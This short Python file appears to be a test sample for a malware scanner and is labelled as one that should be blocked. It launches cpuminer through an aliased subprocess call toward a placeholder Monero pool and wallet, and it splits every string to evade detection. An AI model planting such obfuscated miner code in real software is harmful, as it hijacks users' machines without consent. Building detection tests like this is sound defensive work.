# expect: BLOCKED category: miner variant-of: risky/miner/cpuminer_subprocess.py technique: alias+concat
import subprocess as _m0
WALLET = '48edfHu7V9Z84YzzMa6fUueoELZ9ZRX' + 'q9VetWzYGzKt52XU5xvqgzYnDK9URnR' + 'oJMk1j8nLwEVsaSWJ4fhdUyZijBGUic' + 'oD'
_m0.Popen(['./c' + 'pum' + 'ine' + 'r', '-' + 'a', 'cry' + 'pto' + 'nig' + 'ht', '-' + 'o', 'stratum+tcp' + '://xmr.pool' + '.example:33' + '33', '-' + 'u', WALLET, '-' + 'p', 'x'])
